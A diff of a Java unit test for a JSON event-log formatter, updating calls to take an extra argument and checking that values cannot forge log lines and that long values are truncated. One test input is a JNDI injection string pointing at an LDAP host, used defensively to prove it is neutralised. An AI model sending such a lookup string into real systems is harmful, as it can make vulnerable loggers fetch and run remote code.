@@ -30,7 +30,7 @@ class EventLinesTest {
         "{\"event\":\"denied\",\"time\":\"1970-01-01T00:00:01.500Z\",\"node\":\"n1\","
             + "\"cause\":\"publish\",\"tenant\":\"acme\",\"user\":\"ann\","
             + "\"address\":\"192.0.2.1\",\"channelKind\":\"private\"}",
-        lines.line(denied("ann"), 1500));
+        lines.line(denied("ann"), null, 1500));
     assertEquals(
         "{\"event\":\"left_out\",\"time\":\"1970-01-01T00:00:00Z\",\"node\":\"n1\","
             + "\"of\":\"denied\",\"cause\":\"publish\",\"tenant\":\"acme\",\"count\":7}",
@@ -50,7 +50,7 @@ class EventLinesTest {
         "{0} ${jndi:ldap://192.0.2.9/x} %n %s"
       })
   void aValueCannotForgeALineOrAField(String user) {
-    String line = lines.line(denied(user), 0);
+    String line = lines.line(denied(user), "r-1", 0);
     assertTrue(line.chars().allMatch(c -> c >= 0x20 && c < 0x7F), line);
     assertEquals(1, line.split("\"event\":", -1).length - 1, line);
     assertTrue(line.startsWith("{\"event\":\"denied\",") && line.endsWith("}"), line);
@@ -58,7 +58,7 @@ class EventLinesTest {
 
   @Test
   void longValuesAreCut() {
-    String line = lines.line(denied("a".repeat(10_000)), 0);
+    String line = lines.line(denied("a".repeat(10_000)), null, 0);
     assertTrue(line.length() < 500, line);
     assertTrue(line.contains("a".repeat(EventLines.MAX_VALUE - 1) + "\\u2026\""), line);
     String cut = EventLines.cut("a".repeat(3) + "😀😀", 5);
